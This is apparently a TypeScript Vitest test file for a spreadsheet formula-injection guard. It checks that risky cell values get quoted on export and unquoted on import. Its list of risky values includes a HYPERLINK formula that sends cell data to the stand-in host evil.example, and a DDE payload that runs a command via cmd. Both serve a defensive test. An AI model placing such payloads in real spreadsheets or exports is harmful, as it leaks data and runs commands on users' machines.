import { describe, expect, it } from 'vitest'
import { guardFormula, needsFormulaGuard, unguardFormula } from './formula-guard.ts'

/** What a spreadsheet runs as a formula when it is a cell's first character (OWASP, ASVS 1.2.10). */
const FORMULA_START = /^(?:[=+\-@\t\r\0＝＋－＠]|\s+[=+\-@＝＋－＠])/u

const RISKY = [
  '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  ' =1+1',
  '\u3000=1+1',
  '\n=1+1',
  '＝１＋１',
  '＋1',
  '－3',
  '＠SUM',
  '-3',
  '-',
]
// Values that already look guarded must survive too, or the import could not tell them apart.
const QUOTED = ["'=1+1", "''=1+1", "'''+x", "'\t=1", "' =1", "'＝1", "'-3", " '' =3", "' ' '@x", "\n'=1"]
const PLAIN = [
  '',
  "'",
  "''",
  "'abc",
  "'山田",
  'abc',
  '山田 太郎',
  '2021-08-31',
  'a=b',
  'x-1',
  '電話 075-123-4567',
  '池\u200b田恵',
  '\u200b=1',
  '\ud800=',
  "' ",
  " ' abc",
  '😀=1',
]

describe('guardFormula', () => {
  it.each([...RISKY, ...QUOTED])('quotes %j so that no spreadsheet runs it', (text) => {
    const guarded = guardFormula(text)
    expect(guarded).toBe(`'${text}`)
    expect(guarded).not.toMatch(FORMULA_START)
  })

  it.each(PLAIN)('leaves %j as it is', (text) => {
    expect(guardFormula(text)).toBe(text)
    expect(unguardFormula(text)).toBe(text)
  })

  it('is undone by unguardFormula for every value (also after the import trims), never two values to one cell', () => {
    const seen = new Map<string, string>()
    const values = [...RISKY, ...QUOTED, ...PLAIN].flatMap((v) => [v, `'${v}`, `''${v}`, ` '${v}`, `${v}x`])
    for (const value of values) {
      const cell = guardFormula(value)
      expect(unguardFormula(cell), JSON.stringify(value)).toBe(value)
      // The importer trims every text cell: a value it shortens must not come back unquoted.
      expect(unguardFormula(cell.trim()), JSON.stringify(value)).toBe(cell === value ? value.trim() : value)
      expect(cell).not.toMatch(FORMULA_START)
      expect(seen.get(cell) ?? value, JSON.stringify(cell)).toBe(value)
      seen.set(cell, value)
    }
  })

  it('takes off one quote only from a guarded shape on import', () => {
    expect(unguardFormula("'=1+1")).toBe('=1+1')
    expect(unguardFormula("''=1+1")).toBe("'=1+1")
    expect(unguardFormula("'abc")).toBe("'abc")
    expect(unguardFormula("'")).toBe("'")
    expect(unguardFormula("' ' =1")).toBe(" ' =1")
    expect(needsFormulaGuard('a=1')).toBe(false)
  })
})
